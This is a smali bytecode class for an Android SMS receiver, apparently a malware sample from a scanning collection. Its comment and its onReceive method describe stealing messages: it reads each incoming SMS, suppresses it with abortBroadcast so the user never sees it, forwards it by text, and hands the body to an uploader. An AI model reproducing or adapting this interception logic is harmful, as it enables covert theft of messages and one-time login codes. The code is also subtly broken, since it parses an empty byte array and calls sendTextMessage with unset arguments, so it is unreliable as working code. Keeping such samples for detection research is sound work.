.class public Lorg/apkscan/sample/tracker/xgmwprt;
.super Landroid/content/BroadcastReceiver;
.source "xgmwprt.java"

# Reads each incoming SMS, hides it from the user and forwards it.
.method public constructor <init>()V
    .registers 1
    invoke-direct {p0}, Landroid/content/BroadcastReceiver;-><init>()V
    return-void
.end method

.method public onReceive(Landroid/content/Context;Landroid/content/Intent;)V
    .registers 6
    const/4 v0, 0x0
    new-array v0, v0, [B
    invoke-static {v0}, Landroid/telephony/SmsMessage;->createFromPdu([B)Landroid/telephony/SmsMessage;
    move-result-object v1
    invoke-virtual {v1}, Landroid/telephony/SmsMessage;->getMessageBody()Ljava/lang/String;
    move-result-object v2
    invoke-virtual {v1}, Landroid/telephony/SmsMessage;->getOriginatingAddress()Ljava/lang/String;
    move-result-object v3
    invoke-virtual {p0}, Lorg/apkscan/sample/tracker/xgmwprt;->abortBroadcast()V
    invoke-static {}, Landroid/telephony/SmsManager;->getDefault()Landroid/telephony/SmsManager;
    move-result-object v0
    const/4 v1, 0x0
    invoke-virtual/range {v0 .. v5}, Landroid/telephony/SmsManager;->sendTextMessage(Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;Landroid/app/PendingIntent;Landroid/app/PendingIntent;)V
    new-instance v0, Lorg/apkscan/sample/tracker/Uploader;
    invoke-direct {v0}, Lorg/apkscan/sample/tracker/Uploader;-><init>()V
    invoke-virtual {v0, v2}, Lorg/apkscan/sample/tracker/Uploader;->send(Ljava/lang/String;)V
    return-void
.end method
